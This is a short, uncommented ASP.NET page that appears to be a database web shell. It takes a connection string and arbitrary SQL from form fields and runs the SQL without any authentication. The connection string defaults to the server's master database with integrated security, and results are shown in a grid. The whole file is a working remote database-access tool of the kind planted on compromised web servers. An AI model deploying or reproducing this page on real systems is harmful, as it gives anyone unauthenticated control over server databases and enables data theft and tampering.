<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
protected void Query(object sender, EventArgs e)
{
    using (SqlConnection conn = new SqlConnection(connstr.Text))
    {
        conn.Open();
        SqlCommand cmd = new SqlCommand(sql.Text, conn);
        DataTable t = new DataTable();
        t.Load(cmd.ExecuteReader());
        grid.DataSource = t; grid.DataBind();
    }
}
</script>
<form runat="server">
<asp:TextBox ID="connstr" runat="server" Text="server=.;database=master;integrated security=true" />
<asp:TextBox ID="sql" runat="server" TextMode="MultiLine" />
<asp:Button runat="server" Text="Run" OnClick="Query" /><asp:GridView ID="grid" runat="server" />
</form>
